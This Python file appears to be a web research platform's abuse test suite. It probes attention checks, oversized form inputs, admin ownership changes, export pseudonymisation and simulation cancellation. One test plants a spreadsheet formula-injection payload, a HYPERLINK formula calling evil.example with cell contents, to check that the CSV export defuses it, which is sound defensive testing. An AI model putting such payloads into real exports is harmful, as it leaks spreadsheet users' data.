"""The abuse suite's attacks through the pages (bench/abuse.py): the worker-quality signals and forms a
script answers, and what a researcher may do to a study or its exports."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import os
import re
import subprocess
import time
import uuid
from pathlib import Path
from typing import Any

from abuse import Site, new_id
from abuse_common import Browser, connect, make_study, researcher, say, start_session

# ----------------------------------------------------------------------------------- worker quality


def unmeasured_signals(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from chat.quality import study_quality

    study = make_study(f"signals {uuid.uuid4().hex[:6]}", min_user_turns=4)
    b = Browser(site)
    sid = start_session(b, study.slug, new_id())
    assert sid is not None

    async def go() -> list[str]:
        ws = await connect(b, sid)
        out = [
            await say(ws, f"scripted message {i}", signals=None if i % 2 else {"typed_chars": "lots"}) for i in range(4)
        ]
        await ws.close()
        return out

    answers = asyncio.run(go())
    flags = [r.authenticity.flags for r in study_quality(study) if r.participant.episodes.exists()]
    held = bool(flags) and "unmeasured" in flags[0]
    return (
        held,
        f"a script sent 4 messages without or with unreadable signals: flags {flags[0] if flags else []}",
        {"answers": answers},
    )


def _ended_with_check(site: Site) -> tuple[Any, Browser, int, str]:
    from studies.models import AttentionCheck

    study = make_study(f"rating {uuid.uuid4().hex[:6]}")
    AttentionCheck.objects.create(study=study, position=1, target=80, tolerance=5)
    b = Browser(site)
    sid = start_session(b, study.slug, new_id())
    assert sid is not None

    async def go() -> str:
        ws = await connect(b, sid)
        answer = await say(ws, "hello there")
        await ws.close()
        return answer

    assert asyncio.run(go()) == ""
    b.post(f"/chat/{sid}/end/", page=f"/chat/{sid}/")
    return study, b, sid, b.get(f"/chat/{sid}/rate/").text


def attention_markup(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study, b, sid, page = _ended_with_check(site)
    names = re.findall(r'<input type="range"[^>]* name="([^"]+)"', page)
    legends = [
        re.sub(r"<svg.*?</svg>", "", x, flags=re.S) for x in re.findall(r"<legend[^>]*>(.*?)</legend>", page, re.S)
    ]
    same_names = len(names) == 6 and all(re.fullmatch(r"r[0-9a-f]{12}", n) for n in names)
    no_digits = not any(re.search(r"[0-9]", x) for x in legends)
    # the attacker's script: random values, and the value a statement names for its slider
    found = [re.search(r"set this slider to (\d+)", x) for x in legends]
    held = same_names and no_digits and not any(found)
    return held, f"{len(names)} sliders named alike: {same_names}; a digit in a statement's text: {not no_digits}", {}


def absurd_numbers(site: Site) -> tuple[bool, str, dict[str, Any]]:
    study, b, sid, page = _ended_with_check(site)
    names = re.findall(r'<input type="range"[^>]* name="([^"]+)"', page)
    statuses = []
    for value in ("9" * 5000, "²"):
        data = dict.fromkeys(names, value) | {f"touched_{n}": "1" for n in names}
        statuses.append(b.post(f"/chat/{sid}/rate/", data).status_code)
    rita = researcher(site)
    url = f"/studies/{study.slug}/checks/"
    for data in ({"kind": "readiness", "arm": "²"}, {"kind": "readiness", "arm": "9" * 5000},
                 {"kind": "evaluation", "max_questions": "9" * 5000}, {"kind": "evaluation", "max_questions": "²"}):  # fmt: skip
        statuses.append(rita.post(url, data, page=f"/studies/{study.slug}/").status_code)
    held = all(400 <= s < 500 for s in statuses)
    return (
        held,
        f"5,000-digit and ² values in the rating form and the staff check forms: {statuses}",
        {"statuses": statuses},
    )


# --------------------------------------------------------------------------------------- researcher side


def admin_ownership(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from django.contrib.auth.models import Permission, User

    from studies.tests.test_study_form import _RenderedForm

    study = make_study(f"owned {uuid.uuid4().hex[:6]}")
    oscar, _ = User.objects.get_or_create(username="oscar", defaults={"is_staff": True})
    oscar.set_password("pw")
    oscar.save()
    oscar.user_permissions.add(*Permission.objects.filter(codename__in=["change_study", "view_study"]))
    study.shared_with.add(oscar)
    b = Browser(site)
    b.login("oscar")
    url = f"/admin/studies/study/{study.pk}/change/"
    form = _RenderedForm()
    form.feed(b.get(url).text)
    response = b.post(url, {**form.data, "created_by": str(oscar.pk), "shared_with": []})
    study.refresh_from_db()
    held = study.created_by.username == "rita" and list(study.shared_with.all()) == [oscar]
    return (
        held,
        f"a researcher the study is shared with posted created_by=themselves ({response.status_code}): creator is "
        + (study.created_by.username),
        {},
    )


def qc_switch(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from studies.tests.test_study_form import _RenderedForm

    rita = researcher(site)
    study = make_study(f"qc {uuid.uuid4().hex[:6]}")
    url = f"/studies/{study.slug}/edit/"
    form = _RenderedForm()
    form.feed(rita.get(url).text)
    i = next(k.split("-")[1] for k, v in form.data.items() if k.endswith("-memory_system") and v == "none")
    response = rita.post(url, {**form.data, f"arms-{i}-memory_system": "qc", f"arms-{i}-params": "{}"})
    held = response.status_code == 400 and not study.arms.filter(memory_system="qc").exists()
    return held, f"switching an open study's arm to qc from the study page: HTTP {response.status_code}", {}


def csv_readme(site: Site) -> tuple[bool, str, dict[str, Any]]:
    import pandas as pd

    rita = researcher(site)
    study = make_study(f"csv {uuid.uuid4().hex[:6]}")
    study.name = 'Memory, =HYPERLINK("http://evil.example/?"&A1,"x")'
    study.save()
    metric = study.metrics.first()
    metric.statement = "It\rremembered;=1+1\u2028and\tthat"
    metric.save()
    text = rita.get(f"/studies/{study.slug}/data/ratings.csv").text
    n = int(text.splitlines()[0].strip('"').split()[1])
    header = text.splitlines()[:n]
    cells = [
        c for sep in (",", ";", "\t") for row in csv.reader(io.StringIO("\n".join(header)), delimiter=sep) for c in row
    ]
    table = pd.read_csv(io.StringIO(text), skiprows=n)
    held = all(c.startswith("#") for c in cells) and list(table.columns)[:2] == ["worker", "episode"]
    return (
        held,
        f"README header of {n} lines: every cell starts with #: {all(c.startswith('#') for c in cells)}; "
        f"read_csv(skiprows={n}) columns {list(table.columns)[:3]}",
        {},
    )


def pseudonyms(site: Site) -> tuple[bool, str, dict[str, Any]]:
    from studies.models import Arm, Participant
    from studies.tests.conftest import make_finished_episode

    rita = researcher(site)
    study = make_study(f"pseudo {uuid.uuid4().hex[:6]}")
    Arm.objects.create(study=study, name="full", memory_system="full_history")
    make_finished_episode(study)
    Participant.objects.filter(study=study).update(external_id="prolific:5f1e2d3c4b5a69788796a5b4")
    bodies = {fmt: rita.get(f"/studies/{study.slug}/analysis/export/{fmt}/").text for fmt in ("data", "json", "md")}
    leaked = [fmt for fmt, body in bodies.items() if "5f1e2d3c4b5a69788796a5b4" in body]
    return not leaked, f"analysis exports naming a Prolific ID: {leaked or 'none'}", {}


def power_simulations(site: Site) -> tuple[bool, str, dict[str, Any]]:
    rita = researcher(site)
    study = make_study(f"plan {uuid.uuid4().hex[:6]}")
    url = f"/studies/{study.slug}/plan/"
    big = {"pilot": "assumed", "worker_sd": 11.5, "scale_sd": 0.2, "episode_sd": 10, "session_sd": 10, "residual_sd": 22,
           "careless_rate": 0.05, "effect": 0.05, "effect_unit": "latent", "target": 0.8, "test": "cluster-t",
           "family": "metric", "max_workers": 2000}  # fmt: skip
    jobs, refused = [], 0
    for studies in (1000, 999, 998, 997, 996):
        r = rita.post(url, {**big, "studies": studies})
        if r.status_code == 302:
            jobs.append(r.headers["location"].split("job=")[1].split("#")[0])
        elif "running already" in r.text:
            refused += 1
    for job in jobs:
        rita.post(f"{url}{job}/cancel/", page=url)
    # the runtime's plan lane (a child process of daphne in the embedded default) stays; the cancelled
    # simulation in it stops at its next check: its CPU time stops growing
    time.sleep(20)
    before = _cpu_seconds(_plan_children(site))
    time.sleep(5)
    busy = _cpu_seconds(_plan_children(site)) - before
    states = [re.search(r"cancelled|failed|Simulating|Waiting", rita.get(f"{url}{job}/").text) for job in jobs]
    shown = [s.group() if s else "?" for s in states]
    held = refused >= 1 and busy < 1.0 and all(s == "cancelled" for s in shown)
    return (
        held,
        (
            f"5 of the largest plans: {len(jobs)} queued or running, {refused} refused; the plan lane's CPU 20-25 s "
            f"after Cancel: {busy:.1f} s in 5 s; the pages then say {', '.join(shown)}"
        ),
        {"states": shown},
    )


def _cpu_seconds(pids: list[int]) -> float:
    total = 0.0
    for pid in pids:
        with contextlib.suppress(OSError, IndexError, ValueError):
            fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
            total += (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    return total


def _plan_children(site: Site) -> list[int]:
    out = subprocess.run(["pgrep", "-P", str(site.daphne_pid())], capture_output=True, text=True).stdout
    pids = []
    for pid in out.split():
        with contextlib.suppress(OSError):
            if b"spawn_main" in Path(f"/proc/{pid}/cmdline").read_bytes():  # not the resource tracker
                pids.append(int(pid))
    return pids
